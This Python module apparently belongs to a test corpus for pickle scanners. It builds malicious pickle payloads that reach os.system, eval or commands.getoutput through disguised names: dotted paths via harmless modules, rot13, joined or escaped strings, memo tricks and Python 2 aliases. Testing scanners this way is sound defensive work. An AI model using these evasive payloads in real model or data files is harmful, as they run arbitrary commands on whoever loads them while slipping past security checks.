"""How a name can be spelled, or be computed, so that who reads the file's text does not see it."""

from __future__ import annotations

import struct
from collections.abc import Callable

from corpus.assembler import STACK_GLOBAL, Op, call, method, name, old_name, pickled, text, value
from corpus.entry import Place, Technique


def _looked_up(module: Op, qualname: Op) -> Op:
    return Op(module + qualname + STACK_GLOBAL)


def _run(function: Op, place: Place) -> Op:
    return call(function, place.command)


def _quoted(characters: str) -> Op:
    return Op(b"S'" + characters.encode() + b"'\n")


def _escaped(characters: str) -> Op:
    return Op(b"V" + b"".join(b"\\u%04x" % ord(char) for char in characters) + b"\n")


def _hex_quoted(characters: str) -> Op:
    return Op(b'S"' + b"".join(b"\\x%02x" % ord(char) for char in characters) + b'"\n')


def _long_text(characters: str) -> Op:
    return Op(b"\x8d" + struct.pack("<Q", len(characters)) + characters.encode())


_DOTTED = [
    ("random", "_os.system"),
    ("shutil", "os.system"),
    ("uuid", "os.system"),
    ("tempfile", "_os.system"),
    ("logging", "os.system"),
    ("pathlib", "os.system"),
    ("joblib.memory", "os.system"),
    ("joblib.numpy_pickle", "os.system"),
    ("pandas.io.common", "os.system"),
    ("numpy.lib._npyio_impl", "os.system"),
    ("sklearn.datasets._base", "os.system"),
    ("skops.io", "_persist.importlib.sys.modules"),
]

_SPELLED: dict[str, tuple[str, Callable[[Place], Op]]] = {
    "joined": (
        "a name joined from letters by a call",
        lambda p: _run(_looked_up(text("os"), call(name("builtins", "str.join"), "", list("system"))), p),
    ),
    "added": (
        "a name added from two",
        lambda p: _run(_looked_up(text("os"), call(name("operator", "add"), "sys", "tem")), p),
    ),
    "decoded": (
        "a name in rot13",
        lambda p: _run(_looked_up(text("os"), call(name("codecs", "decode"), "flfgrz", "rot13")), p),
    ),
    "decoded bytes": (
        "a module's name from bytes, as Python 2 pickles have them",
        lambda p: _run(_looked_up(call(name("_codecs", "encode"), "os", "latin1"), text("system")), p),
    ),
    "lower": (
        "a name in capitals",
        lambda p: _run(_looked_up(method("OS", "lower"), method("SYSTEM", "lower")), p),
    ),
    "from a dictionary": (
        "a name that is looked up",
        lambda p: _run(_looked_up(text("os"), call(name("operator", "getitem"), {"a": "system"}, "a")), p),
    ),
    "escaped": (
        "text escapes of protocol 0",
        lambda p: _run(_looked_up(_escaped("os"), _escaped("system")), p),
    ),
    "quoted": ("text in quotes", lambda p: _run(_looked_up(_quoted("os"), _quoted("system")), p)),
    "hexadecimal": (
        "escapes in quotes",
        lambda p: _run(_looked_up(_hex_quoted("os"), _hex_quoted("system")), p),
    ),
    "long text": (
        "text with eight bytes of length",
        lambda p: _run(_looked_up(_long_text("os"), _long_text("system")), p),
    ),
    "from a file's own name": (
        "a name cut out of another object's",
        lambda p: _run(_looked_up(text("os"), _attribute("os", "system.__name__")), p),
    ),
    "module by an object": (
        "a module's name got from a class",
        lambda p: _run(_looked_up(_attribute("os", "system.__module__"), text("system")), p),
    ),
    "interned after a drop": (
        "what lies between the two names is dropped",
        lambda p: _run(
            Op(text("os") + value(1) + b"0" + text("x") + b"0" + text("system") + STACK_GLOBAL), p
        ),
    ),
    "doubled": (
        "one text is module and name: pprint.pprint of a dotted kind",
        lambda p: _run(Op(text("os") + b"2" + b"0" + text("system") + STACK_GLOBAL), p),
    ),
    "full-width letters": (
        "names that look alike and do not resolve",
        lambda p: _run(name("os", "\uff53ystem"), p),
    ),
    "old name": ("the text opcode", lambda p: _run(old_name("os", "system"), p)),
}


def _attribute(module: str, path: str) -> Op:
    return name(module, path)


# Names of Python 2, which Python 3 maps to its own below protocol 3.
_FORMER: dict[str, Callable[[Place], Op]] = {
    "__builtin__ eval": lambda p: call(old_name("__builtin__", "eval"), p.code),
    "__builtin__ reduce": lambda p: call(
        old_name("__builtin__", "reduce"), old_name("__builtin__", "eval"), [p.code, {}]
    ),
    "commands getoutput": lambda p: call(old_name("commands", "getoutput"), p.command),
    "itertools imap": lambda p: call(
        old_name("__builtin__", "list"),
        call(old_name("itertools", "imap"), old_name("posix", "system"), [p.command]),
    ),
    "cPickle loads": lambda p: call(
        old_name("cPickle", "loads"), pickled(call(old_name("os", "system"), p.command), 2)
    ),
    "urllib urlretrieve": lambda p: call(
        old_name("urllib", "urlretrieve"), "file:///proc/self/comm", p.marker
    ),
}

TECHNIQUES = [
    *(
        Technique(
            f"dotted {module} {qualname}",
            "dotted names",
            "a harmless module, and a path out of it",
            lambda place, module=module, qualname=qualname: pickled(
                call(name(module, qualname), place.command)
                if qualname.endswith("system")
                else method(method(name(module, qualname), "get", "os"), "system", place.command)
            ),
            needs=("pandas",) if module.startswith("pandas") else (),
        )
        for module, qualname in _DOTTED
    ),
    *(
        Technique(
            f"name {way}",
            "spelled names",
            about,
            lambda place, made=made: pickled(made(place)),
            executes=way not in ("full-width letters", "decoded bytes"),
        )
        for way, (about, made) in _SPELLED.items()
    ),
    *(
        Technique(
            f"python 2 {way}",
            "names of Python 2",
            "mapped to its name in Python 3",
            lambda place, made=made: pickled(made(place), 2),
        )
        for way, made in _FORMER.items()
    ),
]
